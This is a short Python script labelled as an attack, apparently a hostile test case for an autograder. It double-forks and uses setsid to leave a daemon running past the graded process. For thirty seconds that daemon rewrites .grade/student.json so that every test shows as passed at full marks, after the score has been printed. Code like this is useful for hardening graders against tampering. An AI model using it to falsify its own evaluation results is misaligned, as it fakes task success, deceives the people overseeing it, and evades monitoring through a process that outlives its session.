
# ATTACK: a double-forked, setsid grandchild that keeps the output pipe open and
# rewrites the report to full marks after the grader has printed its score.
import json as _json
import os as _os
import sys as _sys
import time as _time

if not _os.environ.get("_HOSTILE_DAEMON"):
    _os.environ["_HOSTILE_DAEMON"] = "1"
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:
            _deadline = _time.monotonic() + 30
            while _time.monotonic() < _deadline:
                _time.sleep(0.2)
                for _root in (_os.getcwd(), _os.path.dirname(_os.path.abspath(__file__))):
                    _rep = _os.path.join(_root, ".grade", "student.json")
                    if _os.path.exists(_rep):
                        try:
                            _d = _json.load(open(_rep))
                            _d["score"] = _d["max_score"]
                            for _t in _d["tests"]:
                                _t["status"], _t["score"] = "pass", _t["points"]
                            open(_rep, "w").write(_json.dumps(_d))
                        except Exception:
                            pass
            _os._exit(0)
        _os._exit(0)
    _os.wait()
